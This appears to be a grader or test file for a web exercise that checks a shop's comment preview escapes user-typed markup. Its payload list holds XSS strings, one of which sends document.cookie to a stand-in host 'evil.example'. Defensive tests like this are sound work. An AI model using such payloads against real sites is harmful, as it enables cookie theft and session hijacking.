from urllib.parse import urlencode

from django.utils.html import escape

from minidjango.exercises import goal

PREVIEW = "https://shop.example.com/comments/preview/"

#: What visitors have typed into the comment form, and what a browser would run of it.
SCRIPTS = [
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>",
    "<img src=x onerror=alert(document.domain)>",
    '<a href="https://shop.example.com/" onmouseover="alert(1)">see this</a>',
    "</blockquote><svg onload=alert(1)>",
]


def preview(run, author="Ana", text="Lovely tea."):
    return run.request("GET", f"{PREVIEW}?{urlencode({'author': author, 'text': text})}")


def shown_as_text(response, typed):
    """The page shows what was typed, every < > & " ' as an entity, and none of it as markup."""
    return response.status == 200 and escape(typed) in response.text and typed not in response.text


@goal("Markup typed into a comment is shown as text: no <script>, no onerror=, no closing tag gets into the page as HTML")
def text_escaped(run):
    return all(shown_as_text(preview(run, text=typed), typed) for typed in SCRIPTS)


@goal("Markup typed as the author's name is shown as text too")
def author_escaped(run):
    return all(shown_as_text(preview(run, author=typed), typed) for typed in SCRIPTS)


@goal('The name is still in its badge: <span class="author">Ana</span>')
def badge_kept(run):
    response = preview(run, author="Ana")
    return response.status == 200 and '<span class="author">Ana</span>' in response.text


@goal("Line breaks in a comment still show: two lines come out with a <br> between them")
def line_breaks(run):
    response = preview(run, text="Lovely tea.\nArrived in two days.")
    return response.status == 200 and "Lovely tea.<br>Arrived in two days." in response.text
